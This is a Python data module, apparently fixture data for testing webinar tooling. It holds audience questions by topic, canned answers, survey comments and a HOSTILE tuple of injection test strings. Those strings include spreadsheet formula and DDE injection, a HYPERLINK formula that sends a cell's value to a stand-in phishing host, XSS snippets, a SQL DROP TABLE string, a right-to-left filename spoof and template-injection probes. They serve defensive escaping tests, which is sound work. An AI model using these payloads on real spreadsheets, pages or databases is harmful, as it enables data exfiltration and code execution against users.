"""What people write: questions, answers, survey comments, and text that attacks whoever shows or exports it."""

from __future__ import annotations

from typing import Final

TOPICS: Final[dict[str, tuple[str, ...]]] = {
    "planning": (
        "How long does it take to get from spreadsheets to a working planning system?",
        "Which forecast horizon do you recommend for seasonal products?",
        "How do you measure forecast accuracy when sales are lumpy?",
        "Who should own the consensus forecast: sales or operations?",
        "What do you do with items that have less than a year of history?",
        "Can the model explain why a forecast changed overnight?",
        "How often do you rerun the plan, weekly or daily?",
        "Does this work for make-to-order as well?",
        "How did you convince the sales team to take part?",
        "What would you do differently if you started again?",
    ),
    "inventory": (
        "How do you set safety stock for slow movers?",
        "What service level did you start with?",
        "How do you deal with minimum order quantities?",
        "Is the ABC/XYZ classification recalculated automatically?",
        "How do you treat promotions in the replenishment run?",
        "Did returns improve as well, or only stock levels?",
        "What was the payback time?",
    ),
    "finance": (
        "Which metric would you show to the board first?",
        "How do you put a price on a lost sale?",
        "How does working capital compare between your customers?",
        "Do you report inventory turns by value or by pieces?",
        "Who prepares the figures: finance or operations?",
        "How often does the board want to see this?",
        "Is there a template for the one-page summary?",
    ),
    "results": (
        "Could you repeat the guidance for next year?",
        "What is the effect of currency on the margin?",
        "How much of the growth is price and how much is volume?",
        "Is the slide with the bridge available as a download?",
        "When do you expect the new region to break even?",
        "Does the outlook include the acquisition?",
    ),
    "trade": (
        "What changes for goods that are already on the water?",
        "Do the new tariff codes apply to spare parts?",
        "How do you model demurrage in the total landed cost?",
        "Is nearshoring still cheaper when you include quality costs?",
        "Where do you get spot rates from?",
        "Which incoterm would you choose today?",
        "How do you split the risk with the carrier?",
    ),
    "suppliers": (
        "Which of the signals turned out to be false alarms?",
        "How far down the tiers can you see?",
        "Do suppliers answer the questionnaires at all?",
        "How do you handle confidential data in the prompts?",
        "What is the first use case you would automate?",
        "Does the law apply to companies with fewer than 1,000 employees?",
        "How do you score a supplier without financial statements?",
    ),
    "sustainability": (
        "Which emission factors do you use for road freight?",
        "Do customers really pay more for recycled material?",
        "How do you audit data that comes from suppliers?",
        "When does the next reporting deadline apply?",
        "Is biodegradable film ready for food contact?",
    ),
    "warehouse": (
        "How many pickers do you schedule per shift?",
        "What happens when a sensor loses its connection?",
        "Do you grade returns at the dock or later?",
        "How do you keep temperature records for ten years?",
        "Is there a checklist that we can use in our own warehouse?",
        "What is a realistic pick rate for new staff?",
    ),
    "product": (
        "Is single sign-on included in the standard licence?",
        "When will the new connector be available in Europe?",
        "Can we migrate our dashboards from the old version?",
        "Does the API have a limit on the number of calls?",
        "Is there a test environment for partners?",
        "How are roles mapped to our directory groups?",
        "Will there be a version for tablets?",
    ),
}
"""Questions from the audience by topic."""

GENERAL_QUESTIONS: Final = (
    ("Will the recording be available afterwards?", "Yes, everyone who registered gets the link within a day."),
    ("Can we get the slides?", "Yes, you find them under Resources, beside the player."),
    ("The sound is breaking up for me, is it only here?", "Please reload the page; that usually helps."),
    ("Could you share the link to the template again?", "It is in the chat and under Resources."),
    ("Hello from {city}!", "Welcome! Good to have you here."),
    ("Is there a certificate of attendance?", "Yes, it comes with the follow-up mail."),
    ("Which customers of our size use this?", "Our team will send you two references."),
    ("Could someone from your team call us about this?", "With pleasure. We will call you this week."),
)
"""What is asked at any event, each with the answer it gets."""

GREETING_CITIES: Final = ("Leeds", "Monterrey", "Gdańsk", "Pune", "Hamburg", "Ohio", "Melbourne", "Lyon")
OPENINGS: Final = ("", "", "", "", "", "Thanks! ", "Great session. ", "Sorry, I joined late. ", "Hi all! ")
ENDINGS: Final = (
    "",
    "",
    "",
    "",
    "",
    "",
    "",
    " We have {number} sites.",
    " We are a team of {number}.",
    " Thank you!",
)
"""What people put around a question."""

REPLIES: Final = (
    "Great question, we will take it live at the end.",
    "Answered live.",
    "It depends on your data. Two years of history are a good start.",
    "Our team will contact you after the session with the details.",
    "We come to this in a few minutes.",
    "Short answer: it varies by industry. The handout has the ranges.",
    "Yes, and the case study in the handout shows how.",
    "Thank you. We will write a short article about this.",
)

COMMENTS: Final = (
    "Very practical, thank you.",
    "More examples from mid-sized companies, please.",
    "The demo was the best part.",
    "A little too fast in the middle.",
    "Good pace and clear slides.",
    "I would like to see the numbers behind the case study.",
    "Sound quality could be better.",
    "Would attend again.\nPlease send the slides.",
    "Too much product, too little method.",
    "Excellent speakers. Looking forward to part two!",
    "The Q&A was too short.",
    "Helpful for my whole team; I shared it with three colleagues.",
    "Nothing new for me, but well presented.",
    "Sehr gut, gerne mehr davon.",
    "Très clair, merci !",
    "とても参考になりました。",
)
WISHES: Final = (
    "Forecasting for new products", "Inventory across channels", "Integration with our ERP", "Supplier collaboration",
    "Carbon accounting", "How to build the business case", "Pricing", "Change management", "Multi-echelon planning",
    "Returns", "A comparison of methods", "Control tower examples",
)  # fmt: skip
GOALS: Final = (
    "Learn how others do it", "Prepare a tender", "Find out about pricing", "Reduce stock", "Improve service level",
    "Replace our spreadsheets", "Understand the new rules", "Stay up to date", "See the product",
    "Bring ideas to my team",
)  # fmt: skip

HOSTILE: Final = (
    '=HYPERLINK("http://phish.example/?x="&A1,"Click here")',
    "=1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+49 (0)40 555-0199",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\uff1d1+1",
    "<script>alert('registered')</script>",
    '"><img src=x onerror=alert(1)>',
    "</viewer><viewer>",
    "]]>",
    "&lt;b&gt;already escaped&lt;/b&gt; &amp;",
    "Robert'); DROP TABLE registrants;--",
    "\u202etxt.exe",
    "\u200fשלום\u200f \u202ahello\u202c",
    'He said "yes", then "no"',
    "first line\nsecond line\r\nthird line",
    "a|b | c||d",
    "semi;colon,comma",
    "%s %d {0} ${HOME} {{7*7}}",
    "NULL",
    "👩🏽‍💻 très bien ✅",
    "Zażółć gęślą jaźń " * 40,
)
"""Formulas, markup, right-to-left marks, quotes, line breaks, pipes. Each appears somewhere in the world."""
